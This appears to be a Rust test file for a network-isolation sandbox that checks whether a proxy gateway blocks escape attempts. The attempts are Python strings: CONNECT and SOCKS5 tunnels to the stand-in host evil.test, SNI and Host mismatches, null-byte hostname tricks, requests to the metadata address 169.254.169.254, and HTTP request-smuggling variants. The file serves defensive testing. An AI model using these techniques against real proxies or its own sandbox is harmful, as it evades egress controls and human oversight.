//! Whoever speaks to the boundary itself: CONNECT, SOCKS5, requests for a proxy, and plain requests with more than one reading.

use belljar_types::IsolationClass;

use crate::scene::{POLICY, Scene};

pub(crate) async fn proxies_are_held_to_the_same(class: IsolationClass) {
    let scene = Scene::open(class, POLICY).await;
    let connect = |target: &str, then: &str| {
        format!(
            "s = socket.create_connection((gateway(), 3128)); s.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\na = recv_some(s)\nif b' 200 ' not in a: stopped(a)\n{then}"
        )
    };
    let wrap = |name: &str| {
        format!(
            "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\ns = c.wrap_socket(s, server_hostname='{name}'); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)"
        )
    };
    let socks = |kind: &str, then: &str| {
        format!(
            "s = socket.create_connection((gateway(), 3128)); s.sendall(b'\\x05\\x01\\x00'); assert recv_some(s) == b'\\x05\\x00'\ns.sendall(b'\\x05\\x01\\x00' + {kind})\nif recv_some(s)[1] != 0: stopped('refused')\n{then}"
        )
    };
    let name = |bytes: &str| format!("b'\\x03' + bytes([len({bytes})]) + {bytes} + struct.pack('>H', 443)");
    // Those that a policy can allow come first.
    let bad = [
        connect("evil.test:443", &wrap("evil.test")),
        connect("allowed.test:22", "s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)"),
        socks(&name("b'evil.test'"), &wrap("evil.test")),
        socks(
            "b'\\x01' + socket.inet_aton('169.254.169.254') + b'\\x00\\x50'",
            "s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); recv_some(s)",
        ),
        "http(gateway(), 3128, b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')".to_owned(),
        connect("allowed.test:443", &wrap("evil.test")),
        socks(&name("b'allowed.test'"), &wrap("evil.test")),
        connect("allowed.test:443", "s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); recv_some(s)"),
        connect(
            "allowed.test:80",
            "s.sendall(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); a = recv_some(s)\nif b' 200 ' not in a: stopped(a)",
        ),
        socks(&name("b'evil\\x00.allowed.test'"), ""),
        socks(&name("b'allowed.test\\x00.evil.test'"), ""),
        socks(&name("b'a' * 255"), ""),
        socks(&name("b'169.254.169.254'"), ""),
        "http(gateway(), 3128, b'GET http://allowed.test@evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')".to_owned(),
        "http(gateway(), 3128, b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')".to_owned(),
    ];
    for bad in &bad {
        assert!(!scene.gets_through(bad).await, "{bad}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{bad}");
    }
    for good in [
        connect("allowed.test:443", &wrap("allowed.test")),
        socks(&name("b'allowed.test.'"), &wrap("allowed.test")),
        "http(gateway(), 3128, b'GET http://allowed.test/x HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')".to_owned(),
    ] {
        assert!(scene.gets_through(&good).await, "{good}");
        assert!(scene.internet.sees(|_| true).await, "{good}");
    }
    let told = scene.python("import urllib.request as u, os\nfor line in open('/etc/resolv.conf'): g = line.split()[-1]\nu.install_opener(u.build_opener(u.ProxyHandler({'https': 'http://%s:3128' % g})))\ntry: u.urlopen('https://evil.test/', data=b'x')\nexcept Exception as e: print(e)").await;
    assert!(told.text().contains("denied by network.default"), "a program that uses a proxy shows the rule: {told}");
    scene.close().await;
    let control = Scene::control(class).await;
    for bad in &bad[..5] {
        assert!(control.gets_through(bad).await, "{class}: the control did not get through: {bad}");
        assert!(control.internet.sees(|_| true).await, "{class}: the control left no trace: {bad}");
    }
    control.close().await;
    let raw = Scene::open(class, &POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[443],"scheme":"raw"}"#)).await;
    for bad in &bad[5..8] {
        assert!(raw.gets_through(bad).await, "{class}: the control did not get through: {bad}");
        assert!(raw.internet.sees(|_| true).await, "{class}: the control left no trace: {bad}");
    }
    raw.close().await;
}

pub(crate) async fn plain_requests_are_read_strictly(class: IsolationClass) {
    let scene = Scene::open(class, POLICY).await;
    let requests = [
        "POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nX: a\\r\\n b\\r\\n\\r\\n",
        "GET / HTTP/1.1\\nHost: allowed.test\\n\\n",
        "GET / HTTP/1.1\\r\\nHost: allowed.test\\rX: y\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n",
        "GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: allowed.test.evil.test\\r\\n\\r\\n",
        "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\\r\\n",
        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
    ];
    for request in requests {
        assert!(!scene.gets_through(&format!("http('allowed.test', 80, b'{request}')")).await, "{request}");
        assert_eq!(scene.internet.seen(), Vec::<String>::new(), "{request}");
    }
    let second = "s = socket.create_connection(('allowed.test', 80)); s.sendall(b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); recv_some(s); s.sendall(b'GET /second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); a = recv_all(s)\nif b'421' in a: stopped(a)";
    assert!(!scene.gets_through(second).await);
    assert!(scene.internet.seen().iter().all(|line| !line.contains("/second")));
    scene.close().await;
    // The same by port only, where nobody reads requests.
    let raw = Scene::open(class, &POLICY.replace(r#""ports":[80,443]}"#, r#""ports":[80],"scheme":"raw"}"#)).await;
    for request in requests {
        let sent = format!("s = socket.create_connection(('allowed.test', 80)); s.sendall(b'{request}'); recv_some(s)");
        assert!(raw.gets_through(&sent).await, "{class}: the control did not get through: {request}");
        assert!(raw.internet.sees(|line| line.starts_with("http ")).await, "{class}: the control left no trace: {request}");
    }
    assert!(raw.gets_through(&second.replace("recv_all(s)", "recv_some(s)")).await);
    assert!(raw.internet.sees(|line| line.contains("/second")).await);
    raw.close().await;
}
